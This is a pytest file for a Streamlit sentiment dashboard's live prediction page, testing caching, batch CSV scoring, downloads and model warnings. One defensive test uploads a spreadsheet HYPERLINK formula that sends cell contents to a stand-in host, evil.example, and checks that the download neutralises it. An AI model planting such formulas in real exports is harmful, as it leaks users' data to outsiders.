"""The live prediction page under AppTest: lazy tabs, cached verdicts, kept batch results."""
from __future__ import annotations

import csv
import io
from collections.abc import Callable

import numpy as np
import pytest
from streamlit.testing.v1 import AppTest

from storage.store import open_store
from tests.dashboard import builders
from tests.trainer.conftest import build_tiny_model
from trainer.stages import CHANCE_WARNING

Open = Callable[[str, str], AppTest]
REVIEW = "A wonderful, moving film; the ending was dull."


def texts(elements) -> str:
    return "\n".join(str(e.value) for e in elements)


def no_exception(at: AppTest) -> None:
    assert not at.exception, at.exception[0].value


def table_with(at: AppTest, column: str):
    return next(d.value for d in at.dataframe if column in d.value.columns)


def metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


def open_tab(at: AppTest, label: str) -> AppTest:
    """Open one of the live page's lazy tabs (only the open tab computes)."""
    at.session_state["live_tab"] = label
    return at.run()


def choose(at: AppTest, key: str, name: str) -> AppTest:
    """Pick the first model whose name holds `name` (the options are the names shown)."""
    box = at.selectbox(key=key)
    return box.select_index(next(i for i, o in enumerate(box.options) if name in o)).run()


def upload(at: AppTest, data: str | bytes, name: str = "r.csv") -> AppTest:
    raw = data.encode() if isinstance(data, str) else data
    return at.file_uploader(key="live_csv").set_value((name, raw, "text/csv")).run()


class CountingPredictor:
    """Stands in for every model: positive when a review says "good"; records each call."""

    def __init__(self, calls: list[tuple[str, str]], explainer_fails: bool = False) -> None:
        self.name, self.calls, self.explainer_fails = "fake", calls, explainer_fails

    def predict_proba(self, texts):
        self.calls += [("score", t) for t in texts]
        return np.array([0.9 if "good" in t else 0.2 for t in texts])

    def explain(self, text, top_k=10):
        self.calls.append(("explain", text))
        if self.explainer_fails:
            raise RuntimeError("integrated gradients ran out of memory")
        start = text.index("good")
        return [type("Span", (), {"token": "good", "start": start, "end": start + 4,
                                  "weight": 0.5})()]


@pytest.fixture
def calls(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """Every ("score" | "explain", review) the models were asked, through a counting fake."""
    import trainer.predict

    seen: list[tuple[str, str]] = []
    monkeypatch.setattr(trainer.predict, "load_predictor",
                        lambda *a, **k: CountingPredictor(seen))
    return seen


def asked(calls: list[tuple[str, str]], kind: str, text: str) -> int:
    return sum(1 for c in calls if c == (kind, text))


@pytest.fixture(scope="session")
def transformer_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A fine-tuned tiny BERT and a pretrained tiny encoder without a sentiment head."""
    import transformers

    folder = tmp_path_factory.mktemp("live")
    tuned = build_tiny_model(folder / "tuned")
    encoder = folder / "encoder"
    build_tiny_model(encoder)  # the tokenizer and config; the weights are replaced below
    config = transformers.BertConfig.from_pretrained(encoder)
    transformers.BertModel(config).save_pretrained(encoder)  # no classifier weights: a new head
    url = f"sqlite:///{folder / 'live.db'}"
    reviews = builders.synthetic_reviews(200)
    with open_store(url) as store:
        builders.save_stage(store, "pretrained", reviews, 0.0, seed=2, model="tiny-encoder",
                            artifact=str(encoder),
                            warnings=(CHANCE_WARNING.format(model="tiny-encoder"),))
        builders.save_stage(store, "finetuned", reviews, 1.5, seed=3, model="tiny-bert",
                            study=builders.STUDY, artifact=tuned)
    return url


def test_verdict_shows_p_positive_and_the_models_accuracy_with_its_n(open_page: Open,
                                                                     small_db: str) -> None:
    at = open_page(small_db, "live")
    no_exception(at)
    assert "baseline" in at.selectbox(key="live_model").options[0]
    assert "cannot be loaded" in at.expander[0].label  # the deleted fine-tuned model
    at.text_area(key="live_text").set_value(REVIEW).run()
    no_exception(at)
    shown = metrics(at)
    assert list(shown) == ["label", "P(positive)", "test accuracy"]
    assert shown["label"] in ("positive", "negative")
    assert (float(shown["P(positive)"]) >= 0.5) == (shown["label"] == "positive")
    assert " ± " in shown["test accuracy"]
    assert "n = 300 test reviews" in texts(at.caption) and "95% CI [" in texts(at.caption)


def test_explanation_is_computed_only_on_demand(open_page: Open, small_db: str) -> None:
    at = open_page(small_db, "live")
    at.text_area(key="live_text").set_value(REVIEW).run()
    assert "-background[" not in texts(at.markdown)
    at.toggle(key="live_explain").set_value(True).run()
    no_exception(at)
    assert "-background[" in texts(at.markdown)


def test_every_model_side_by_side_with_p_positive_and_accuracy(open_page: Open,
                                                               small_db: str) -> None:
    at = open_page(small_db, "live")
    at.text_area(key="live_text").set_value(REVIEW).run()
    assert not any("P(positive)" in d.value.columns for d in at.dataframe)  # not asked yet
    at.toggle(key="live_all").set_value(True).run()
    no_exception(at)
    table = table_with(at, "P(positive)")
    assert len(table) >= 1 and table["accuracy ± 95% CI"].str.contains(" ± ").all()
    assert (table["n"] == 300).all()


@pytest.mark.parametrize(("text", "message"), [
    ("   \n\t ", "the review is empty"),
    ("x" * 20_001, "shorten it to at most 20,000"),
])
def test_bad_reviews_are_explained(open_page: Open, small_db: str, text: str,
                                   message: str) -> None:
    at = open_page(small_db, "live")
    at.text_area(key="live_text").set_value(text).run()
    no_exception(at)
    assert message in texts(at.error).replace("\\", "")


def test_only_the_open_tab_scores(open_page: Open, small_db: str,
                                  calls: list[tuple[str, str]]) -> None:
    at = open_page(small_db, "live")
    at.text_area(key="live_text").set_value("a good film").run()
    at.toggle(key="live_explain").set_value(True).run()
    assert asked(calls, "score", "a good film") == asked(calls, "explain", "a good film") == 1
    open_tab(at, "A CSV file")
    upload(at, "text\nawful\nboring\n")
    at.button(key="live_batch_run").click().run()
    at.run()
    no_exception(at)
    assert len(table_with(at, "prob_positive")) == 2
    # Three runs with a review typed in the hidden tab, and it was neither scored nor explained
    # again: the hidden tab does no work, and the open one found its answers cached.
    assert asked(calls, "score", "a good film") == asked(calls, "explain", "a good film") == 1
    open_tab(at, "One review")
    assert at.text_area(key="live_text").value == "a good film"  # kept while hidden
    assert metrics(at)["label"] == "positive"
    assert asked(calls, "score", "a good film") == 1  # cached per (model, review)


def test_batch_results_stay_after_a_rerun_and_keep_the_uploaded_columns(
    open_page: Open, small_db: str, calls: list[tuple[str, str]]
) -> None:
    at = open_tab(open_page(small_db, "live"), "A CSV file")
    upload(at, "\ufeffid,text,source\r\n1,A good film,web\r\n2,   ,mail\r\n3,Awful,web\r\n")
    no_exception(at)
    at.button(key="live_batch_run").click().run()
    first = table_with(at, "prob_positive")
    scored = len(calls)
    at.run()  # what a download, or any other widget, causes
    no_exception(at)
    again = table_with(at, "prob_positive")
    assert again.equals(first) and len(calls) == scored  # kept, not recomputed
    assert list(again.columns) == ["id", "text", "source", "prob_positive", "label", "model",
                                   "error"]
    assert again["id"].tolist() == ["1", "2", "3"] and again["source"].tolist()[1] == "mail"
    assert again["prob_positive"].tolist()[0] == pytest.approx(0.9)
    assert np.isnan(again["prob_positive"].iloc[1]) and "empty" in again["error"].iloc[1]
    assert again["label"].tolist() == ["positive", "", "negative"]
    assert at.progress == [] or at.progress[0].value == 100
    assert at.download_button(key="live_batch_csv").label == "Download the results as CSV"


def test_batch_results_are_kept_per_file_and_model(open_page: Open,
                                                   transformer_db: str) -> None:
    at = open_tab(open_page(transformer_db, "live"), "A CSV file")
    upload(at, "text\nA good film\n")
    box = at.selectbox(key="live_batch_model")
    assert "tiny-bert" in box.options[box.index]  # trained first, though listed second
    at.button(key="live_batch_run").click().run()
    no_exception(at)  # the fine-tuned tiny BERT, scored through the fast CPU path
    tuned = table_with(at, "prob_positive")
    assert tuned["model"].str.contains("tiny-bert").all()
    choose(at, "live_batch_model", "tiny-encoder")
    assert not any("prob_positive" in d.value.columns for d in at.dataframe)  # not run yet
    assert "head not trained: chance-level" in texts(at.warning)  # before it is even run
    at.button(key="live_batch_run").click().run()
    assert table_with(at, "prob_positive")["model"].str.contains("tiny-encoder").all()
    choose(at, "live_batch_model", "tiny-bert")
    assert table_with(at, "prob_positive").equals(tuned)  # back without a click
    assert "head not trained" not in texts(at.warning)


@pytest.fixture
def downloaded(monkeypatch: pytest.MonkeyPatch) -> Callable[[AppTest, str], bytes]:
    """downloaded(at, key) -> the bytes the download button with that key serves.

    AppTest keeps a download's bytes in a media store that it drops after each run; keep them.
    """
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
    from streamlit.testing.v1 import app_test

    stores: list[MemoryMediaFileStorage] = []

    class KeptMediaStorage(MemoryMediaFileStorage):
        def __init__(self, media_endpoint: str) -> None:
            super().__init__(media_endpoint)
            stores.append(self)

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", KeptMediaStorage)

    def read(at: AppTest, key: str) -> bytes:
        name = at.download_button(key=key).proto.url.rsplit("/", 1)[-1]
        return stores[-1].get_file(name).content  # the latest run's store serves the button

    return read


def test_download_neutralises_formulas_but_shows_cells_as_uploaded(
    open_page: Open, small_db: str, downloaded: Callable[[AppTest, str], bytes]
) -> None:
    link = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full review")'
    quoted = link.replace('"', '""')
    data = f'text,id\r\n"{quoted}",1\r\n"@SUM(1+1)",2\r\nA fine film,3\r\n'
    at = open_tab(open_page(small_db, "live"), "A CSV file")
    upload(at, data)
    at.button(key="live_batch_run").click().run()
    no_exception(at)
    shown = table_with(at, "error")
    assert shown["text"].tolist() == [link, "@SUM(1+1)", "A fine film"]  # the screen: as uploaded
    rows = list(csv.DictReader(io.StringIO(downloaded(at, "live_batch_csv").decode("utf-8"),
                                           newline="")))
    assert list(rows[0]) == ["text", "id", "prob_positive", "label", "model", "error"]
    assert [r["text"] for r in rows] == ["'" + link, "'@SUM(1+1)", "A fine film"]
    assert [r["id"] for r in rows] == ["1", "2", "3"]
    assert [float(r["prob_positive"]) for r in rows] == pytest.approx(
        shown["prob_positive"].tolist())
    assert [r["label"] for r in rows] == shown["label"].tolist()


def test_headerless_upload_is_read_whole_and_says_so(open_page: Open, small_db: str) -> None:
    at = open_tab(open_page(small_db, "live"), "A CSV file")
    upload(at, b"A wonderful film\r\nAwful and boring\r\n", "plain.csv")
    no_exception(at)
    captions = texts(at.caption).replace("\\", "")
    assert "2 reviews in plain.csv" in captions
    assert ("plain.csv has one column and no header row, so its first row was read as a review "
            "too; to give the file a header, name the column text") in captions
    at.button(key="live_batch_run").click().run()
    assert table_with(at, "error")["text"].tolist() == ["A wonderful film", "Awful and boring"]


@pytest.mark.parametrize(("data", "message"), [
    (b"text\n\xff\xfe\n", "bad.csv is not valid UTF-8 (line 2)"),
    (b"title,stars\nx,1\n", "expected a column named 'text' or 'review'"),
    (b"text\n" + b"x\n" * 5001, "bad.csv has 5,001 reviews; give at most 5,000"),
])
def test_unreadable_csv_gets_the_shared_readers_advice(open_page: Open, small_db: str,
                                                       data: bytes, message: str) -> None:
    from dashboard.live_views import MAX_UPLOAD_ROWS
    from trainer.errors import DataError
    from trainer.predict import read_reviews_csv

    at = open_tab(open_page(small_db, "live"), "A CSV file")
    upload(at, data, "bad.csv")
    no_exception(at)
    with pytest.raises(DataError) as caught:  # what `predict --file` reads with, too
        read_reviews_csv(data, "bad.csv", max_rows=MAX_UPLOAD_ROWS)
    assert message in str(caught.value)
    assert texts(at.error).replace("\\", "") == str(caught.value)


def test_label_stands_when_the_explainer_fails(open_page: Open, small_db: str,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import trainer.predict

    monkeypatch.setattr(trainer.predict, "load_predictor",
                        lambda *a, **k: CountingPredictor([], explainer_fails=True))
    at = open_page(small_db, "live")
    at.toggle(key="live_explain").set_value(True)
    at.text_area(key="live_text").set_value("a good film").run()
    no_exception(at)
    assert metrics(at)["label"] == "positive" and metrics(at)["P(positive)"] == "0.900"
    assert "Could not explain this prediction" in texts(at.warning)


def test_untrained_head_is_labelled_where_offered_and_beside_its_verdict(
    open_page: Open, transformer_db: str
) -> None:
    at = open_page(transformer_db, "live")
    options = at.selectbox(key="live_model").options
    untrained = [o for o in options if "tiny-encoder" in o]
    assert untrained and all(o.endswith("— head not trained: chance-level") for o in untrained)
    assert not any("chance" in o for o in options if "tiny-bert" in o)
    at.text_area(key="live_text").set_value(REVIEW).run()
    no_exception(at)  # the fine-tuned tiny BERT, scored through the fast CPU path
    assert "head not trained" not in texts(at.warning)
    assert 0.0 <= float(metrics(at)["P(positive)"]) <= 1.0
    choose(at, "live_model", "tiny-encoder")
    no_exception(at)
    assert "head not trained: chance-level" in texts(at.warning)
    assert " ± " in metrics(at)["test accuracy"]


class Untrained(CountingPredictor):
    untrained_head, notes = True, ("never shown: the warning says it",)


class Noted(CountingPredictor):
    untrained_head, notes = False, ("LABEL_1 was taken as positive; check with "
                                    "`python -m trainer report`",)


@pytest.mark.parametrize(("fake", "expected"), [(Untrained, "head not trained: chance-level"),
                                                (Noted, "LABEL_1 was taken as positive")])
def test_what_a_loaded_model_says_of_itself_is_shown_beside_its_verdict(
    open_page: Open, small_db: str, monkeypatch: pytest.MonkeyPatch, fake: type,
    expected: str
) -> None:
    import trainer.predict

    monkeypatch.setattr(trainer.predict, "load_predictor", lambda *a, **k: fake([]))
    at = open_page(small_db, "live")
    at.text_area(key="live_text").set_value("a good film").run()
    no_exception(at)
    shown = texts(at.warning) + texts(at.caption).replace("\\", "")
    assert expected in shown and "never shown" not in shown
    # a command in a note shows as code, its backticks unescaped
    assert all("\\`" not in t.value for t in [*at.caption, *at.warning])


def test_the_fast_copy_is_prepared_when_the_model_loads_not_per_review(
    open_page: Open, transformer_db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from trainer.transformer.fast import FastClassifier

    prepared: list[str] = []
    original = FastClassifier.from_classifier.__func__

    def counted(cls, clf, **options):
        prepared.append(clf.name)
        return original(cls, clf, **options)

    monkeypatch.setattr(FastClassifier, "from_classifier", classmethod(counted))
    at = open_page(transformer_db, "live")
    at.text_area(key="live_text").set_value(REVIEW).run()
    assert len(prepared) == 1  # while loading, in the warm-up
    for i in range(3):
        at.text_area(key="live_text").set_value(f"{REVIEW} {i}").run()
    no_exception(at)
    assert len(prepared) == 1
